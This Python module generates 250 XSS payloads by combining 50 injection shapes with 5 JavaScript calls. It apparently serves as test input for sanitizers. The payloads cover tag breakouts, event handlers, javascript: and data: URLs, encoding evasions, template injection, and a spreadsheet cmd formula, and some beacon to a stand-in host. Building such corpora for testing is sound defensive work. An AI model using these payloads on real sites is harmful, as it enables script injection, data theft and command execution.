"""Texts that want to become a program: 250 of them, from the shapes that pages have fallen for."""

from itertools import product

_CALLS = ("alert(1)", "document.title='owned'", "fetch('{there}')", "new Image().src='{there}'", "location='{there}'")
_SHAPES = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "</title><script>{call}</script>",
    "</style><script>{call}</script>",
    "\"><script>{call}</script>",
    "'><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    "<img src=x onerror={call}>",
    "<img src='{there}' onload={call}>",
    "\" onmouseover=\"{call}\" x=\"",
    "' onfocus='{call}' autofocus='",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>{call}</script>'></foreignObject></svg>",
    "<iframe src=javascript:{call}></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;{call}&lt;/script&gt;\"></iframe>",
    "<a href=\"javascript:{call}\">x</a>",
    "javascript:{call}",
    "JaVaScRiPt&colon;{call}",
    "data:text/html,<script>{call}</script>",
    "<object data=\"javascript:{call}\"></object>",
    "<embed src=\"data:image/svg+xml,<svg onload={call}>\">",
    "<link rel=stylesheet href={there}><script>{call}</script>",
    "<meta http-equiv=refresh content=\"0;url={there}\">{call}",
    "<base href={there}><script src=x>{call}</script>",
    "<form action=javascript:{call}><button autofocus>x</button></form>",
    "<input onfocus={call} autofocus>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<body onload={call}>",
    "<style>@import '{there}';</style><b onclick={call}>",
    "<div style=\"background:url({there})\" onclick={call}>",
    "<math><mtext></mtext><script>{call}</script></math>",
    "<template><script>{call}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={call}>\">",
    "<textarea></textarea><script>{call}</script>",
    "<!--<img src=\"--><img src=x onerror={call}>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "<scr\0ipt>{call}</scr\0ipt>",
    "\x00<script>{call}</script>",
    "<script/src={there}>{call}</script>",
    "<script\n>{call}</script\n>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "`;{call}//",
    "=cmd|' /C {call}'!A0",
)  # fmt: skip


def payloads(there: str = "http://elsewhere.invalid/x") -> list[str]:
    """Every shape with every call; `there` is an address that must not be asked for anything."""
    made = [shape.format(call=call.format(there=there), there=there) for shape, call in product(_SHAPES, _CALLS)]
    assert len(made) == len(set(made)) == 250, len(made)
    return made
